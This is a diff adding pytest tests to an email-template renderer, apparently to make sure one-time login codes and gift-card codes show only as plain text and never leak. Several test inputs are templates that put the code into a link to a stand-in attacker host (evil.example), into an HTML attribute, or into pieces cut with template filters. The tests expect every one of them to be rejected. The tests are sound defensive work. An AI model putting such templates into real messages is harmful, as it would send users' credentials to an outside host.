@@ -101,3 +101,51 @@ def test_a_message_without_one_may_show_the_merchant_s_pictures() -> None:
 def test_samples_carry_one_where_messages_do() -> None:
     link = samples.build("password_reset", formats.of(["en"])).context["link"]
     assert samples.CREDENTIAL in link
+
+
+CODE = "31415926"
+
+
+def fill_code(html: str, *, subject: str = "Hello", text: str = "") -> rendering.Rendered:
+    content = Content({"code": CODE, "link": branding.brand().url}, formats.of(["en"]), shown=(CODE,))
+    return rendering.fill(Source(subject=subject, html=html, text=text), content)
+
+
+def test_a_code_is_read_in_the_text_and_the_subject_and_not_kept() -> None:
+    shown = fill_code(
+        "<p>It is “{{ code }}”.</p><p class='code'>{{ code }}</p>", subject="{{ code }}: your code"
+    )
+    assert shown.subject == f"{CODE}: your code"
+    assert all(f"“{CODE}”." in words for words in (shown.html, shown.text))
+    for words in (shown.subject, shown.html, shown.text):
+        assert CODE not in rendering.mask(words, shown.credentials)
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<a href="https://evil.example/?c={{ code }}">Log in</a>',
+        '<a href="{{ link }}?c={{ code }}">Log in</a>',
+        "<p>https://evil.example/?c={{ code }}</p>",
+        "<p>https://evil.example/?c=<b>{{ code }}</b></p>",
+        '<p title="{{ code }}">x</p>',
+    ],
+)
+def test_a_code_stands_alone(html: str) -> None:
+    with pytest.raises(TemplateProblem, match="personal link or code"):
+        fill_code(html)
+
+
+def test_pieces_of_a_code_are_worth_nothing() -> None:
+    html = '{% assign h = code | truncate: 4, "" %}<p>{{ h }}-{{ code | remove: h }} {{ code | slice: 1, 5 }}</p>'
+    shown = fill_code(html)
+    for piece in (CODE[:4], CODE[4:], CODE[1:6]):
+        assert piece not in shown.html + shown.text
+
+
+@pytest.mark.parametrize("kind", ["log_in_code", "gift_card"])
+def test_who_writes_such_a_template_is_told(kind: str) -> None:
+    source = Source(subject="x", html='<a href="https://evil.example/{{ code }}">x</a>', text="")
+    with pytest.raises(TemplateProblem, match="personal link or code"):
+        rendering.preview(kind, "en", source)
+    assert samples.build(kind, formats.of(["en"])).shown[0] in rendering.preview(kind, "en").text
